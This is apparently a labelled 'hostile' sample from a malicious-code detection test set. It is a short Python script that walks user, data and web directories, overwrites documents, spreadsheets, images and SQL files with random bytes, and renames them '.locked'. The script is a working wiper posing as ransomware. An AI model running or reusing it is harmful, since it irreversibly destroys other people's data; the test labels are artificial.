# label: hostile
# expect: V101 V103
# note: Overwrites documents of other people with noise of the same length, file by file.
import os

ROOTS = ["/home", "/srv/data", "/var/www"]
KINDS = {".docx", ".xlsx", ".pdf", ".jpg", ".sql"}

for root in ROOTS:
    for here, _, names in os.walk(root):
        for name in names:
            if os.path.splitext(name)[1] in KINDS:
                path = os.path.join(here, name)
                size = os.path.getsize(path)
                with open(path, "r+b") as f:
                    f.write(os.urandom(size))
                os.rename(path, path + ".locked")
